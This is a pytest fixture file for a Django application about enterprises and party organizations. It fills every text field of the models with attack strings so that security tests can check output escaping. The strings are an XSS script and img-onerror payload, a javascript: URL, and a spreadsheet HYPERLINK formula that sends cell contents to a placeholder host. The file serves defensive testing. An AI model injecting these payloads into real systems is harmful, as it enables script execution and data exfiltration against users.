"""Hostile data for the security tests: every text field holding an attack."""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import date

import pytest
from django.core.exceptions import ValidationError
from django.db import DatabaseError, models, transaction
from django.utils import timezone

from coordination.models import AdmissionCandidate, PartyMember
from core.models import ImportRun, Notification
from enterprises.models import (
    Enterprise,
    IndustrialZone,
    MassOrganization,
    PartyOrganization,
    WorkforceRecord,
)
from tests.coordination.factories import citizen_id
from tests.enterprises.factories import valid_tax_code

XSS = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"
# What must never reach a page unescaped (the first part survives truncation to 16).
XSS_MARKERS = ("<script>alert(1)", "<img src=x onerror")
# Text that a spreadsheet would run as a formula if written as one.
FORMULA = '=HYPERLINK("http://example.invalid/?d="&A1,"Mở")'


def text_fields(model) -> list[models.Field]:
    """The editable free-text fields of ``model`` (no choices, keys or internals)."""
    return [
        f for f in model._meta.concrete_fields
        if isinstance(f, models.CharField | models.TextField)
        and f.editable and not f.choices and not f.primary_key
    ]


def fill_hostile(obj: models.Model, text: str, keep=()) -> list[str]:
    """Put ``text`` (cut to each field's length) into every text field of ``obj`` and save.

    Fields whose validation refuses the text (a tax code, an e-mail address) keep
    their valid value; the names of the fields that took the text are returned.
    """
    original = {f.name: getattr(obj, f.name) for f in text_fields(type(obj))}
    for f in text_fields(type(obj)):
        if f.name in keep:
            continue
        setattr(obj, f.name, text[: f.max_length] if f.max_length else text)
    try:
        obj.full_clean()
    except ValidationError as exc:
        refused = set(getattr(exc, "error_dict", {}))
        if not refused or not refused <= set(original):
            raise
        for name in refused:
            setattr(obj, name, original[name])
        obj.full_clean()
    obj.save()
    return [f.name for f in text_fields(type(obj)) if getattr(obj, f.name) != original[f.name]]


@dataclass
class World:
    """One set of hostile objects; ``filled`` lists the fields that hold the text."""

    text: str
    zone: IndustrialZone
    enterprise: Enterprise
    massorg: MassOrganization
    partyorg: PartyOrganization
    member: PartyMember
    candidate: AdmissionCandidate
    import_run: ImportRun
    notification: Notification
    filled: dict[str, list[str]] = field(default_factory=dict)
    # Objects of the newer pages (plans, surveys, reports) by model name, when they
    # could be built with the models as they are now.
    extras: dict[str, models.Model] = field(default_factory=dict)
    not_built: list[str] = field(default_factory=list)


def build_world(text: str, *, code: str, n: int, user) -> World:
    filled = {}
    zone = IndustrialZone(code=code, name="KCN")
    filled["zone"] = fill_hostile(zone, text)
    enterprise = Enterprise(
        tax_code=valid_tax_code(700 + n), name="Công ty", zone=zone,
        legal_form=Enterprise.LegalForm.LLC_ONE, capital_source=Enterprise.CapitalSource.FDI,
        established_on=date(2015, 3, 1),
    )
    filled["enterprise"] = fill_hostile(enterprise, text)
    workforce = WorkforceRecord(enterprise=enterprise, as_of=date(2026, 1, 1),
                                total_workers=100, female_workers=40)
    filled["workforce"] = fill_hostile(workforce, text)
    massorg = MassOrganization(enterprise=enterprise, kind=MassOrganization.Kind.TRADE_UNION,
                               established_on=date(2016, 1, 1))
    filled["massorg"] = fill_hostile(massorg, text)
    partyorg = PartyOrganization(name="Chi bộ", kind=PartyOrganization.Kind.GRASSROOTS_CELL,
                                 enterprise=enterprise, established_on=date(2020, 5, 1))
    filled["partyorg"] = fill_hostile(partyorg, text)
    member = PartyMember(
        family_name="Nguyễn", middle_name="Văn", given_name="An", date_of_birth=date(1990, 5, 1),
        gender="male", citizen_id=citizen_id(), admitted_on=date(2020, 3, 1),
        enterprise=enterprise, party_organization=partyorg,
    )
    filled["member"] = fill_hostile(member, text)
    candidate = AdmissionCandidate(
        family_name="Trần", middle_name="Thị", given_name="Bình", date_of_birth=date(1995, 7, 15),
        gender="female", citizen_id=citizen_id(), education_grade=12,
        identified_on=date(2025, 1, 10), enterprise=enterprise, responsible_organization=partyorg,
    )
    filled["candidate"] = fill_hostile(candidate, text, keep=("decision_extension_reason",))
    import_run = ImportRun.objects.create(
        kind="enterprises", file="imports/none.xlsx", original_name=text[:255], uploaded_by=user,
        as_of=date(2026, 1, 1), status=ImportRun.Status.REFUSED,
    )
    notification = Notification.objects.create(
        recipient=user, key=f"xss:{n}", day=timezone.localdate(), title=text[:255], body=text,
        url="javascript:alert(1)",
    )
    world = World(text=text, zone=zone, enterprise=enterprise, massorg=massorg,
                  partyorg=partyorg, member=member, candidate=candidate,
                  import_run=import_run, notification=notification, filled=filled)
    build_extras(world, n=n, user=user)
    return world


def build_extras(world: World, *, n: int, user) -> None:
    """Best effort: committees, plans, surveys and reports holding the text too.

    Other parts of the product are still changing these models; an object whose
    rules refuse the sketch below is left out (and listed in ``not_built``).
    """
    from coordination import models as cm

    today = timezone.localdate()

    def add(name, make, keep=()):
        try:
            with transaction.atomic():
                obj = make()
                world.filled[name] = fill_hostile(obj, world.text, keep)
        except (ValidationError, TypeError, ValueError, LookupError, DatabaseError) as exc:
            world.not_built.append(f"{name}: {exc}")
            return None
        world.extras[obj._meta.model_name] = obj
        return obj

    committee = add("committee", lambda: cm.Committee(
        kind=cm.Committee.Kind.WORKING_GROUP, name="Tổ công tác", decision_number=f"QĐ-{n}",
        decided_on=date(2025, 1, 2), term_start=date(2025, 1, 2)))
    if committee:
        add("committeemember", lambda: cm.CommitteeMember(
            committee=committee, full_name="Lê Văn Cường", organization="Ban Quản lý"))
    plan = add("coordinationplan", lambda: cm.CoordinationPlan(year=2040 + n, title="Kế hoạch"))
    if plan:
        # The indicator is a code of the catalogue, not free text.
        add("plantarget", lambda: cm.PlanTarget(plan=plan, indicator="members_new",
                                                target_value=5), keep=("indicator",))
        add("plantask", lambda: cm.PlanTask(plan=plan, content="Nội dung",
                                            lead_side=cm.PlanTask.LeadSide.choices[0][0],
                                            owner=user, due_on=today))
    try:
        from surveys import models as sm
    except ImportError:
        return
    if committee:
        campaign = add("surveycampaign", lambda: sm.SurveyCampaign(
            name="Đợt khảo sát", working_group=committee, starts_on=date(2026, 1, 1),
            ends_on=date(2026, 12, 31), created_by=user))
        if campaign:
            visit = add("surveyvisit", lambda: sm.SurveyVisit(
                campaign=campaign, enterprise=world.enterprise, visited_on=date(2026, 2, 1),
                recorded_by=user, owner_attitude=sm.SurveyVisit.Attitude.choices[0][0],
                classification=sm.SurveyVisit.Classification.choices[0][0]))
            if visit:
                add("followup", lambda: sm.FollowUp(visit=visit, action="Việc", owner=user,
                                                    due_on=today))
    try:
        from reports import models as rm
    except ImportError:
        return
    add("report", lambda: rm.Report(kind=rm.Report.Kind.YEARLY, period=str(2040 + n),
                                    zone=world.zone, requested_by=user,
                                    status=rm.Report.Status.FAILED))


@pytest.fixture
def xss_world(pc_officer) -> World:
    return build_world(XSS, code="XSS", n=1, user=pc_officer)


@pytest.fixture
def formula_world(pc_officer) -> World:
    return build_world(FORMULA, code="FML", n=2, user=pc_officer)
